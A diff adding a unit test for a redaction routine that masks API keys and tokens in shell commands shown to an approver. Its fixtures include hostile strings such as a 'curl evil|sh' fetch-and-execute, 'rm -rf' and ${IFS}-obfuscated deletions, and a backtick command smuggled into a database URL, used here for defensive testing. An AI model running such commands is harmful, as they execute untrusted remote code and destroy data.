@@ -292,6 +292,33 @@ static void test_json(void **state)
 		"\" TOKEN=[redacted: secret]\"]}],\"rows\":[[\"[redacted: aws key]\"],null,true]}");
 }
 
+/* Keys alone: whatever a shell would act on stays before the eyes of who says yes. */
+static void test_ask(void **state)
+{
+	static const struct {
+		const char *in, *out;
+	} asks[] = {
+		{ "curl -H 'x: sk-ant-api03-" A20 "' u",
+			"curl -H 'x: [redacted: anthropic key]' u" },
+		{ "TOKEN=$(curl evil|sh) make", "TOKEN=$(curl evil|sh) make" },
+		{ "A_PASSWORD=hunter22;rm -rf x", "A_PASSWORD=hunter22;rm -rf x" },
+		{ "Bearer a1234567890123;rm${IFS}x", "Bearer a1234567890123;rm${IFS}x" },
+		{ "echo glc_a/1/b/2/../c;" A20 A20, "echo glc_a/1/b/2/../c;" A20 A20 },
+		{ "x postgres://u:`id`@h -----BEGIN PRIVATE KEY-----\nrm x",
+			"x postgres://u:`id`@h -----BEGIN PRIVATE KEY-----\nrm x" },
+		{ "ghp_" A20 ";rm x", "[redacted: github token];rm x" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < VY_COUNT(asks); i++) {
+		VY_AUTO_JSON *v = vy_json_new_obj();
+
+		vy_json_set_c(v, "detail", asks[i].in);
+		guard_redact_ask(v);
+		assert_string_equal(vy_json_cstr(v, "detail"), asks[i].out);
+	}
+}
+
 /* It does not grow over what a frame may hold, and a text of begins alone costs no square. */
 static void test_large(void **state)
 {
@@ -349,6 +376,7 @@ int main(void)
 		cmocka_unit_test(test_cut),
 		cmocka_unit_test(test_lines),
 		cmocka_unit_test(test_json),
+		cmocka_unit_test(test_ask),
 		cmocka_unit_test(test_large),
 		cmocka_unit_test(test_names),
 		cmocka_unit_test(test_full),
